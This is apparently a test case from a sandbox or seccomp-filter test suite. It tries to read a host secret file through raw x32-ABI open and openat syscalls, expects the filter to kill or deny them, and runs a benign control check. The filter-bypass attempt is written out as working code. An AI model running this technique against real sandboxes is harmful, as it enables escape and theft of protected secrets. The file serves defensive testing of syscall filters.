# id: FLT-01
# category: filter
# technique: x32 ABI (nr | 0x40000000) open and openat of the host secret
# expect: KILL|DENY(ENOSYS)
# catalogue: 23
# race: no
# audit: syscall.unknown|syscall.refused|filter.kill
import os, pvesc

def attack(c):
    p = pvesc.cstr(c["secret"])
    fd = pvesc.raw(0x40000000 | 2, pvesc.addr(p), 0, 0)
    pvesc.out("x32 open", fd)
    if fd >= 0:
        pvesc.out("read", os.read(fd, 200))
    fd = pvesc.raw(0x40000000 | 257, -100, pvesc.addr(p), 0, 0)
    pvesc.out("x32 openat", fd)
    if fd >= 0:
        pvesc.out("read", os.read(fd, 200))

def twin(c):
    with open("mine.txt", "w") as f:
        f.write("mine\n")
    p = pvesc.cstr(os.path.abspath("mine.txt"))
    fd = pvesc.raw(2, pvesc.addr(p), 0, 0)
    return fd >= 0 and os.read(fd, 100) == b"mine\n"

pvesc.main(attack, twin)
